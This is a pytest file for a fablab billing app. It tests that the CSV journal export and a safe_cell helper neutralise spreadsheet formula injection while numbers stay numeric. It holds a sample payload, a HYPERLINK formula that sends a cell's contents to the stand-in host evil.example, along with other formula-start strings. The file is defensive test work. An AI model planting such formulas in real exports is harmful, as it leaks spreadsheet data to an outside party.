# ruff: noqa: F811  (pytest fixtures imported from tests.test_billing_views)
"""CSV injection: a person's own text never becomes a spreadsheet formula in an export;
amounts (negative ones included) stay numbers."""

from __future__ import annotations

from fablab.spreadsheets import safe_cell
from tests.test_billing_views import issue  # noqa: F401  (fixture)

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def test_a_member_named_as_a_formula_is_inert_in_the_journal(
    client, login_as, issue, manager, make_user
):
    member = make_user(name=EVIL)
    invoice = issue(user=member, price=1999)

    journal = login_as(manager).get("/billing/exports/journal.csv").get_data(as_text=True)

    row = next(line for line in journal.splitlines() if invoice.number in line)
    assert "'=HYPERLINK" in row
    assert ",=HYPERLINK" not in row and ',"=HYPERLINK' not in row


def test_the_helper_leaves_numbers_and_ordinary_text_alone():
    assert safe_cell("-19.99") == "-19.99"
    assert safe_cell(-1999) == -1999
    assert safe_cell("Alex Member") == "Alex Member"
    for text in ("=1+1", "+33 6 12", "-x", "@SUM(A1)", "\tcmd", "\rcmd"):
        assert safe_cell(text) == "'" + text
